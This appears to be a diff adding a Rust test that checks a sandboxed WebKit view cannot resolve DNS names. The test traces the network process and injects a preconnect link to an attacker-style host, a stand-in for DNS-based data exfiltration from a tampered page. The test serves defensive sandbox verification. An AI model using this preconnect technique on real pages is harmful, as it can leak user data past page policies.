@@ -348,3 +348,41 @@ fn a_start_that_the_system_will_not_confine_is_refused_unless_asked_for_by_name(
     }
     environment.picture("43-shipped-unconfined");
 }
+
+/// A page that is tampered with could hide an answer in a name that is looked up: a preconnect is
+/// held back by no policy of the page.
+#[test]
+fn a_name_in_the_page_is_looked_up_by_nobody() {
+    let environment = TestEnvironment::new();
+    let window = environment.open_window();
+    window.reaches("ui-welcome-title");
+    let all: Vec<u32> = window.program_ids().into_iter().flat_map(family).collect();
+    let network = all.into_iter().find(|id| status(*id, "Name").starts_with("WebKitNet"));
+    let network = network.expect("the web view has a process for the network").to_string();
+    let trace = environment.home().join("trace");
+    let mut tracer = environment.command("strace");
+    tracer.args(["-f", "-qq", "-p", &network, "-e", "trace=connect,sendto,sendmsg,openat", "-o"]);
+    let mut tracer = tracer.arg(&trace).spawn().unwrap();
+    wait_for(
+        || "the tracer".to_owned(),
+        || (status(network.parse().unwrap(), "TracerPid") != "0").then_some(()),
+    );
+    window.ask(
+        "const link = document.createElement('link');\
+         link.rel = 'preconnect';\
+         link.href = 'https://an-answer.attacker.example';\
+         document.head.append(link);",
+        &[],
+    );
+    let traced = || std::fs::read_to_string(&trace).unwrap_or_default();
+    // The web view turns to the proxy that is not there.
+    wait_for(
+        || format!("an attempt\n{}", traced()),
+        || traced().contains("htons(9)").then_some(()),
+    );
+    for sign in ["nscd", "htons(53)", "/etc/hosts", "resolve", "avahi"] {
+        assert!(!traced().contains(sign), "a name was looked up ({sign}):\n{}", traced());
+    }
+    kill(&tracer.id().to_string());
+    let _ = tracer.wait();
+}
